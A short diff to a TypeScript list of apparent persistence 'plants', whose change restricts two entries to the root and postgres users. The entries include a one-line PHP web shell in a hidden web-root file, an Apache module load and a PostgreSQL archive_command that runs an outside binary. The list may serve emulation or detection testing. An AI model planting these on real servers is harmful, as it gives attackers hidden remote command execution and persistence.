@@ -8,14 +8,14 @@ export const SERVICE_PLANTS: readonly Plant[] = [
   plantOne("web_script", ["http_request", "*"], ["/var/www/html/up/.x.php", "<?php system($_GET[1]);"], null),
   plantOne(
     "web_server_config",
-    ["service_start", "*"],
+    ["service_start", "root"],
     ["/etc/apache2/mods-enabled/x.load", "LoadModule x_module /opt/mod_x.so\n"],
     "x_module /opt/mod_x.so",
     { key: "LoadModule" },
   ),
   plantOne(
     "database_config",
-    ["service_start", "*"],
+    ["service_start", "postgres"],
     ["/etc/postgresql/15/main/postgresql.conf", "archive_command = '/opt/pg %p'\n"],
     "/opt/pg %p",
     { key: "archive_command", raw: null },
